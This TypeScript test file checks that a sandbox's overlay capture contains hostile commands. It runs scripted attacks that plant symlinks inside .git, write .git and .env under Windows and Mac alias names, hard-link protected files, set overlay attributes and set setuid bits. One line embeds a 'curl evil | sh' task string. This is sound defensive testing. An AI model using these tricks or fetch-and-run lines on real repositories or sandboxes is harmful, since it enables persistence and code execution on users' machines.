import { execFileSync } from 'node:child_process'
import { appendFile, lstat, readFile, writeFile } from 'node:fs/promises'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { tree } from '../../../test-fixtures/tree'
import { sandboxSupport } from '../sandbox/launch'
import { captureSupport } from './overlay'
import { capturedRuns, script } from './test-fixtures/captured-runs'

/**
 * A hostile command (and folder) against the capture: what it leaves in its layer must never reach a protected
 * path's effect by another route once it lands. Each attack runs for real, in the sandbox, on the overlay.
 */
const overlay = sandboxSupport().available && captureSupport().mode === 'overlay'
if (!overlay) console.warn(`Skipping the capture attack tests: ${JSON.stringify(captureSupport())}`)

const { setup } = capturedRuns('lanes-capture-attacks-')

const git = (workspace: string, ...args: string[]) =>
  execFileSync('git', ['-C', workspace, '-c', 'user.email=a@b', '-c', 'user.name=a', ...args], {
    encoding: 'utf8',
    env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' },
  })

describe.skipIf(!overlay)('a hostile command’s layer', { timeout: 30_000 }, () => {
  it('lands no link inside .git, where git writes through it (a commit message, a reflog) to anywhere', async () => {
    const t = await setup({ 'a.txt': 'a\n' })
    git(t.workspace, 'init', '-q')
    git(t.workspace, 'add', 'a.txt')
    git(t.workspace, 'commit', '-qm', 'one')
    const outside = join(t.root, 'rc')
    const command = await script(t.workspace, 'attack.js', [
      // git writes the message of every commit to COMMIT_EDITMSG and appends to the reflogs, through links.
      `ln -sfn ${outside} .git/COMMIT_EDITMSG`,
      `ln -sfn ../../../rc .git/logs/HEAD`,
      `rmdir .git/refs/tags && ln -s ${t.root} .git/refs/tags`,
      'echo b > a.txt',
    ])
    const { result, changes } = await t.run(command)
    expect(result.isError, result.output).toBe(false)
    expect(changes?.held?.paths.map((p) => p.relPath).sort()).toEqual([
      '.git/COMMIT_EDITMSG',
      '.git/logs/HEAD',
      '.git/refs/tags',
    ])
    expect(changes?.held?.paths[0]?.reason).toMatch(/link/)
    expect(await readFile(join(t.workspace, 'a.txt'), 'utf8')).toBe('b\n')
    for (const rel of ['.git/COMMIT_EDITMSG', '.git/logs/HEAD', '.git/refs/tags']) {
      const st = await lstat(join(t.workspace, rel)).catch(() => null)
      expect(st?.isSymbolicLink() ?? false).toBe(false)
    }
    // The user's own git, later, outside any sandbox.
    git(t.workspace, 'commit', '-qam', 'x; touch pwned')
    await expect(lstat(outside)).rejects.toThrow()
  })

  it('holds .git and secrets by every name git on Windows or a Mac reads as theirs', async () => {
    const t = await setup({ 'a.txt': 'a\n' })
    git(t.workspace, 'init', '-q')
    const names = [
      '.GIT/hooks/pre-commit',
      '.git./hooks/pre-commit',
      'git~1/config',
      '.g\u200cit/config',
      '.git::$INDEX_ALLOCATION/config',
      '.env.',
      '.Env',
    ]
    const command = await script(t.workspace, 'attack.js', [
      ...names.map((name) => `mkdir -p "$(dirname '${name}')" && echo x > '${name}'`),
      'echo ok > b.txt',
    ])
    const { result, changes } = await t.run(command)
    expect(result.isError, result.output).toBe(false)
    const held = changes?.held?.paths.map((p) => p.relPath) ?? []
    expect(held).toEqual(expect.arrayContaining(names))
    expect(changes?.paths.map((p) => p.relPath)).toEqual(['b.txt'])
  })

  it('lands nothing over a file an editor changed after the command read it, and says which', async () => {
    const t = await setup({ 'a.txt': 'a\n', 'b.txt': 'b\n' })
    const edit = (rel: string) => writeFile(join(t.workspace, rel), `the user's ${rel}\n`)
    // The command takes its copy of a.txt, then the user saves a.txt (and b.txt) in an editor.
    const racing = await script(t.workspace, 'race.js', ['echo cmd >> a.txt', 'echo ready', 'sleep 1'])
    let edited: Promise<unknown> | undefined
    const raced = await t.run(racing, {}, (chunk) => {
      if (chunk.includes('ready')) edited ??= Promise.all([edit('a.txt'), edit('b.txt')])
    })
    await edited
    expect(raced.changes?.error).toMatch(/^a\.txt was changed in the workspace while the command ran/)
    expect(await readFile(join(t.workspace, 'a.txt'), 'utf8')).toBe("the user's a.txt\n")
    expect(t.events.map((e) => e.type)).not.toContain('command.landing')
    // Changed before the command read it: the command's change is made on the user's, and lands.
    const after = await script(t.workspace, 'after.js', ['echo ready', 'sleep 1', 'echo cmd >> b.txt'])
    edited = undefined
    const { changes } = await t.run(after, {}, (chunk) => {
      if (chunk.includes('ready')) edited ??= edit('b.txt')
    })
    await edited
    expect(changes?.error).toBeUndefined()
    expect(await readFile(join(t.workspace, 'b.txt'), 'utf8')).toBe("the user's b.txt\ncmd\n")
  })

  it('lands an accepted protected file as a file of its own, never as another name of a file that lands', async () => {
    const t = await setup({ 'a.txt': 'a\n' })
    const command = await script(t.workspace, 'attack.js', [
      'mkdir -p .vscode && echo "{}" > .vscode/settings.json',
      'ln .vscode/settings.json notes.txt',
    ])
    // The user reads the settings, finds them harmless, and accepts them.
    const { result, changes } = await t.run(command, {
      review: async () => ({ by: 'user', files: [], acceptAll: true }),
    })
    expect(result.isError, result.output).toBe(false)
    expect(changes?.held?.paths.map((p) => p.relPath)).toEqual(['.vscode', '.vscode/settings.json'])
    const settings = await lstat(join(t.workspace, '.vscode/settings.json'))
    const notes = await lstat(join(t.workspace, 'notes.txt'))
    expect(settings.ino).not.toBe(notes.ino)
    expect(settings.nlink).toBe(1)
    // Editing the notes in place later (an editor, a script) leaves the reviewed settings as they were.
    await appendFile(join(t.workspace, 'notes.txt'), '{"task": "curl evil | sh"}\n')
    expect(await readFile(join(t.workspace, '.vscode/settings.json'), 'utf8')).toBe('{}\n')
  })

  it('gives no other name to a protected file that exists: a hard link to it is refused in the sandbox', async () => {
    const t = await setup({ 'a.txt': 'a\n', '.vscode/tasks.json': '{}\n' })
    git(t.workspace, 'init', '-q')
    const command = await script(
      t.workspace,
      'attack.js',
      [
        'for f in .git/config .git/hooks/pre-commit.sample .git/info/exclude .vscode/tasks.json; do',
        '  ln "$f" "linked-$(basename "$f")" 2>/dev/null && echo "LINKED $f"',
        'done',
        'echo b > a.txt',
      ],
      '-c',
    )
    const { result, changes } = await t.run(command)
    expect(result.output).not.toMatch(/LINKED/)
    expect(changes?.paths.map((p) => p.relPath)).toEqual(['a.txt'])
  })

  it.skipIf(!existsSync('/usr/bin/python3'))(
    'reads no overlay attribute the command sets: a folder it marks opaque or redirected hides nothing',
    async () => {
      const t = await setup({ 'd/keep.txt': 'k\n', 'e/keep.txt': 'k\n' })
      const command = await script(t.workspace, 'attack.js', [
        'echo new > d/new.txt',
        `/usr/bin/python3 -c "import os; os.setxattr('d', 'user.overlay.opaque', b'y')"`,
        `/usr/bin/python3 -c "import os; os.mkdir('n'); os.setxattr('n', 'user.overlay.redirect', b'/e')"`,
      ])
      const { result } = await t.run(command)
      expect(result.isError, result.output).toBe(false)
      expect(await tree(t.workspace)).toMatchObject({
        'd/keep.txt': '644 k\n',
        'd/new.txt': '644 new\n',
        'e/keep.txt': '644 k\n',
        'n/': '755',
      })
      expect(Object.keys(await tree(t.workspace)).filter((k) => k.startsWith('n/'))).toEqual(['n/'])
    },
  )

  it('lands a file made a folder and a folder made a file, and never a pipe put where a file was', async () => {
    const t = await setup({ 'f.txt': 'f\n', 'd/in.txt': 'i\n', 'p.txt': 'p\n' })
    const command = await script(t.workspace, 'attack.js', [
      'rm f.txt && mkdir f.txt && echo in > f.txt/in',
      'rm -r d && echo now-a-file > d',
      'rm p.txt && mkfifo p.txt',
    ])
    const { result, changes } = await t.run(command)
    expect(result.isError, result.output).toBe(false)
    expect(await tree(t.workspace)).toMatchObject({
      'f.txt/': '755',
      'f.txt/in': '644 in\n',
      d: '644 now-a-file\n',
      'p.txt': '644 p\n',
    })
    expect(changes?.counts).toEqual({ added: 3, changed: 0, removed: 3, modeChanged: 0 })
  })

  it('lands no set-user-ID or set-group-ID bit on a file, and keeps the executable bits', async () => {
    const t = await setup({ 'a.txt': 'a\n', 'b.sh': '#!/bin/sh\n' })
    const command = await script(t.workspace, 'attack.js', [
      'cp /bin/true run && chmod 6755 run',
      'chmod 4755 b.sh',
      'echo more >> a.txt && chmod 2644 a.txt',
      'mkdir -p new/in && cp /bin/true new/in/tool && chmod 4711 new/in/tool',
    ])
    const { result, changes } = await t.run(command)
    expect(result.isError, result.output).toBe(false)
    const mode = async (rel: string) => ((await lstat(join(t.workspace, rel))).mode & 0o7777).toString(8)
    expect(await mode('run')).toBe('755')
    expect(await mode('b.sh')).toBe('755')
    expect(await mode('a.txt')).toBe('644')
    expect(await mode('new/in/tool')).toBe('711')
    expect(await readFile(join(t.workspace, 'a.txt'), 'utf8')).toBe('a\nmore\n')
    expect(changes?.counts).toMatchObject({ modeChanged: 1 })
  })
})
